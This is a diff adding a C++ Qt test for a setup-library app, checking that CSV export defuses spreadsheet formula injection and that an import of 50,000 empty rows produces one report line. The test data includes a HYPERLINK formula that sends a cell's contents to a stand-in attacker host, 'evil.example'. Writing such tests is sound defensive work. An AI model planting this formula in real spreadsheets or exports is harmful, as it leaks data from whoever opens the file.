@@ -365,6 +365,53 @@ private slots:
         QCOMPARE(std::count(text.begin(), text.end(), '\n'), 9L);
     }
 
+    // A team mate's text goes out as text a spreadsheet never runs and comes back exactly;
+    // a CSV of rows that hold nothing costs one line of the report.
+    void exportsTextAsTextAndACsvOfNothingCostsOneLine() {
+        {
+            SetupLibrary library(m_libraryPath);
+            std::mt19937 rng(38);
+            auto hostile = seasonSetup(rng, 9);
+            hostile.values[std::size_t(SetupField::DriverName)] = "=1+2";
+            hostile.values[std::size_t(SetupField::Notes)] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+            hostile.values[std::size_t(SetupField::FrontCamber)] = "-2.0";
+            library.record(hostile);
+        }
+        LibraryWindow* window = openLibrary();
+        QVERIFY(window);
+        const auto csv = m_folder->path() / "Out" / "Library.csv";
+        std::filesystem::create_directories(csv.parent_path());
+        m_dialogs.answerFiles(vantrel::FileChoice::ExportCsv, {fromStd(csv.string())});
+        MessageBox::setNextAnswer(QMessageBox::Ok);
+        window->findChild<QPushButton*>("cmdExportCsv")->click();
+        const std::string text = WindowTestFolder::readFile(csv);
+        QVERIFY(text.find(",\"'=1+2\",") != std::string::npos);
+        QVERIFY(text.find(",\"'=HYPERLINK(\"\"http") != std::string::npos);
+        QVERIFY(text.find(",\"-2.0\",") != std::string::npos);
+        QVERIFY(text.find(",\"=") == std::string::npos);
+
+        // Taken back, every setup is there already: each value came back exactly.
+        MessageBox::clearHistory();
+        MessageBox::setNextAnswer(QMessageBox::Ok);
+        window->importPaths({fromStd(csv.string())});
+        QCOMPARE(MessageBox::history().size(), 1);
+        QString report = MessageBox::history().front().text;
+        QVERIFY2(report.contains("Added: 0") && report.contains("Already there: 7"), qPrintable(report));
+
+        std::string nothing = text.substr(0, text.find("\r\n") + 2);
+        for (int i = 0; i < 50000; ++i) nothing += "R\r\n";
+        const auto empty = m_folder->write("Nothing.csv", nothing);
+        MessageBox::clearHistory();
+        MessageBox::setNextAnswer(QMessageBox::Ok);
+        window->importPaths({fromStd(empty.string())});
+        QCOMPARE(MessageBox::history().size(), 1);
+        report = MessageBox::history().front().text;
+        QVERIFY2(report.contains("Added: 0") && report.count("hold no setup") == 1 &&
+                     report.contains("50,000 rows hold no setup"),
+                 qPrintable(report));
+        QCOMPARE(window->table()->model()->rowCount(), 7);
+    }
+
     // Cancel in the progress, and closing the window while the import runs (asked, then cancelled
     // and closed), both stop it after the file at hand and keep what it added.
     void importCancels() {
